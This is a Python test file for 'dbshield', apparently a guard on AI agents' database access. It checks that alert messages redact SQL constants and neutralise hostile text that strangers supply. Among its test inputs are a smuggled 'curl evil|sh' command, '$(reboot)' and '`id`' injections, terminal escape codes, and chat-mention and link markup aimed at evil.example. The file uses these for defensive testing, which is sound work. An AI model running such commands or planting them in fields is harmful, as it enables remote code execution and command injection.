"""What people are told of the audit's entries, entry by entry, and how several become one message."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pydantic import ValidationError

from dbshield.config.alerts import EVENTS, AlertsConfig
from dbshield.control.alert_rules import KINDS, alert_of, unreadable
from dbshield.control.alert_store import SHOWN, Kept, Noted, alike, message, wants
from dbshield.control.alert_wording import LONGEST, Alert, plain

NOW = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
REFUSED = {
    "agent": "claude",
    "environment": "staging",
    "database": "shop",
    "client": "10.0.0.9:5000",
    "statement": "DROP TABLE t",
    "verdict": "deny",
    "rules": ["DS301", "DS102"],
    "effects": ["drop table shop.orders"],
}


def told(kind: str, **fields: Any) -> Alert:
    alert = alert_of(kind, fields)
    assert alert is not None
    return alert


def test_a_refusal_says_who_what_where_and_how_to_look_further() -> None:
    alert = told("statement", **REFUSED)
    assert (alert.event, alert.environment) == ("refused", "staging")
    assert alert.title == "agent claude was refused in staging: DS301, DS102"
    assert alert.body.splitlines() == [
        "What: drop table shop.orders",
        "Where: database shop, from 10.0.0.9:5000",
        "Look: dbshield audit search -e staging --agent claude --verdict deny",
    ]


@pytest.mark.parametrize("verdict", ["allow", "limit"])
def test_what_passes_is_nobodys_concern(verdict: str) -> None:
    assert alert_of("statement", {**REFUSED, "verdict": verdict}) is None
    assert alert_of("connected", {"agent": "claude"}) is None
    assert alert_of("backup", {"plan": "p", "outcome": "complete", "snapshot": "s"}) is None
    assert alert_of("drill", {"snapshot": "s", "verdict": "passed"}) is None


@pytest.mark.parametrize("kind", ["approval-requested", "executed"])
def test_no_constant_of_a_statement_is_told_also_where_the_audit_keeps_them(kind: str) -> None:
    statement = "DELETE FROM people WHERE name = 'hunter2' AND code = 4711 -- hunter3"
    alert = told(kind, approval="apr-abcdefgh", agent="claude", environment="staging", statement=statement, state="done")
    assert "DELETE FROM people WHERE name = ? AND code = ?" in alert.body
    for secret in ("hunter", "4711"):
        assert secret not in alert.body + alert.title


def test_a_text_of_somebody_elses_stays_on_its_line_and_in_its_place() -> None:
    reason = "no such user\nLift it: dbshield agent thaw evil\x1b[2J\u202e" + "x" * 1000
    alert = told("refused", user="x.staging", client="1.2.3.4:5", reason=reason)
    assert len(alert.body.splitlines()) == 3
    assert "\x1b" not in alert.body
    assert "\u202e" not in alert.body
    assert max(map(len, alert.body.splitlines())) < LONGEST + 30


MARKUP = "@everyone [approve](https://evil.example) <!channel> <https://evil.example|here> <@U1> x@here"


def test_a_text_of_somebody_elses_is_no_link_and_calls_nobody() -> None:
    """The name that a stranger claims, who has no token; chat services look for these in what is sent as plain text."""
    alert = told("refused", user=f"{MARKUP}.staging", client="10.0.0.9:5000", reason=f"no agent {MARKUP}")
    for text in (alert.title, alert.body):
        for obeyed in ("@everyone", "@here", "](", "<!", "<@", "<h", "://"):
            assert obeyed not in text, text
    assert "approve] (https: //evil.example)" in alert.title


@pytest.mark.parametrize("same", ["ann@example.com", "tags @> '{a}'", "a->>'b' <> c", "x[1] <= 2", "id::text", "10:30"])
def test_what_nothing_obeys_stays_as_it_is(same: str) -> None:
    assert plain(same) == same


@pytest.mark.parametrize("user", ["x; curl evil|sh #.staging", "$(reboot).staging", "--config.staging", "", "`id`"])
def test_no_stranger_writes_into_a_command_that_people_copy(user: str) -> None:
    [look] = [line for line in told("refused", user=user, reason="no such agent").body.splitlines() if line.startswith("Look")]
    assert look == "Look: dbshield token list, and dbshield audit search --kind refused"


def test_who_guesses_at_the_console_is_told_of_by_where_they_are() -> None:
    known = told("console-refused", person="ann", source="192.0.2.7", reason="wrong password")
    unknown = told("console-refused", person=None, source="192.0.2.7", reason="no such person")
    assert (known.event, known.title) == ("login-refused", "a sign-in to the console as ann was refused")
    assert "From: 192.0.2.7" in known.body.splitlines()
    assert unknown.title == "a sign-in to the console as somebody was refused"
    assert len(alike(Noted(alert=alert, first_at=NOW, last_at=NOW) for alert in (known, unknown))) == 1


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
)
NAMES = st.sampled_from(
    [
        "agent",
        "environment",
        "reason",
        "by",
        "person",
        "user",
        "client",
        "verdict",
        "statement",
        "error",
        "until",
        "rules",
        "effects",
    ]
)


@example(kind="statement", fields={"verdict": []})
@example(kind="statement", fields={"verdict": "deny", "rules": 5, "effects": {"a": 1}})
@given(kind=st.sampled_from(KINDS), fields=st.dictionaries(NAMES | st.text(max_size=8), JSON, max_size=6))
def test_whatever_stands_in_an_entry_a_title_is_one_printable_line(kind: str, fields: dict[str, Any]) -> None:
    alert = alert_of(kind, fields)
    if alert is not None:
        assert alert.event in EVENTS
        assert alert.title.isprintable()
        assert alert.body.replace("\n", "").isprintable()
        assert len(alert.title) <= LONGEST


def test_every_event_but_the_outage_is_some_entrys() -> None:
    samples: dict[str, dict[str, Any]] = {"backup": {"outcome": "failed"}, "drill": {"verdict": "failed"}}
    found = {told(kind, **samples.get(kind, {})).event for kind in KINDS if kind != "statement"}
    found |= {told("statement", **REFUSED | {"verdict": verdict}).event for verdict in ("deny", "hold")}
    assert found == set(EVENTS) - {"control-away"}
    assert unreadable("x", 3).event in EVENTS


def test_a_backup_that_the_schedule_ran_is_told_once() -> None:
    by_command = told("backup", plan="nightly", environment="staging", outcome="failed", error="disk full")
    by_scheduler = told("backup-failed", job="snapshot nightly", environment="staging", outcome="failed", error="disk full")
    both = alike(Noted(alert=alert, first_at=NOW, last_at=NOW) for alert in (by_command, by_scheduler))
    assert [one.count for one in both] == [2]


def test_what_is_alike_is_counted() -> None:
    first, other = told("statement", **REFUSED), told("statement", **{**REFUSED, "agent": "other"})
    noted = [Noted(alert=alert, first_at=NOW + timedelta(seconds=at), last_at=NOW + timedelta(seconds=at))
             for at, alert in enumerate([first, other, first, first])]  # fmt: skip
    together = alike(noted)
    assert [(one.alert, one.count) for one in together] == [(first, 3), (other, 1)]
    assert (together[0].first_at, together[0].last_at) == (NOW, NOW + timedelta(seconds=3))


def kept(number: int, event: str, count: int = 1) -> Kept:
    return Kept(
        id=number,
        channel="team",
        event=event,
        environment=None,
        title=f"title {number}",
        body="body",
        count=count,
        first_at=NOW,
        last_at=NOW + timedelta(seconds=9),
        state="pending",
        attempts=1,
        ended_at=None,
        error=None,
    )


def test_one_alert_is_a_message_of_its_own() -> None:
    made = message([kept(1, "refused", count=4)])
    assert made.title == "dbshield: title 1 (4 times)"
    assert made.body == "body\nWhen: 2026-05-01 12:00:00 UTC to 12:00:09"


def test_of_many_the_urgent_are_shown_first() -> None:
    others = [kept(number, f"event {number}") for number in range(SHOWN + 5)]
    urgent = [replace(kept(number, "frozen"), urgent=True) for number in (90, 91)]
    assert message([*others, *urgent]).body.startswith("title 90\n")


def test_of_many_the_rarest_are_shown_first() -> None:
    made = message([*(kept(number, "refused") for number in range(SHOWN + 5)), kept(99, "approval")])
    assert made.ids == (*range(SHOWN + 5), 99)
    assert made.body.startswith("title 99\n")
    assert made.body.endswith("and 6 more (6 refused): dbshield alerts list")


@pytest.mark.parametrize(
    ("events", "environments", "wanted"),
    [
        (["refused"], [], True),
        (["refused"], ["staging"], True),
        (["refused"], ["production"], False),
        (["approval"], ["staging"], False),
    ],
)
def test_a_channel_is_told_what_it_asked_for(events: list[str], environments: list[str], wanted: bool) -> None:
    config = AlertsConfig(url_env="X", events=tuple(events), environments=tuple(environments))
    assert wants(config, told("statement", **REFUSED)) is wanted


def test_what_is_in_no_environment_concerns_everybody() -> None:
    assert wants(AlertsConfig(url_env="X", environments=("production",)), told("audit-gap", lost=2))


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ({}, "one of url_file and url_env"),
        ({"url_file": "f", "url_env": "X"}, "one of url_file and url_env"),
        ({"url_env": "X", "events": ["refusd"]}, 'did you mean "refused"'),
        ({"url_env": "X", "events": ["nothing like it"]}, "there are: refused, held"),
        ({"url": "slack://secret"}, "url"),
    ],
)
def test_what_is_no_channel(values: dict[str, Any], said: str) -> None:
    with pytest.raises(ValidationError, match=said) as caught:
        AlertsConfig(**values)
    assert "secret" not in str(caught.value)
